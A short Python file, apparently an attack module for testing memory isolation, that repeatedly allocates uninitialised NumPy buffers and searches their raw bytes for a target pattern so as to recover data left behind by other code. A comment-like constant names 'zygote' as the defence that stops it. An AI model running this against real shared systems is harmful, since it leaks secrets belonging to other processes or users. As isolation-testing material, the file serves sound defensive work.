"""Asks NumPy for memory that it does not clear, and looks for what others left in it."""

import re

import numpy as np

STOPPED_BY = "zygote"


def attack(target):
    found = []
    for size in [*range(16, 2048, 16)] * 20 + [2**i for i in range(12, 22)] * 5:
        found += re.findall(target["pattern"].encode(), np.empty(size, np.uint8).tobytes())
    return [text.decode() for text in found]
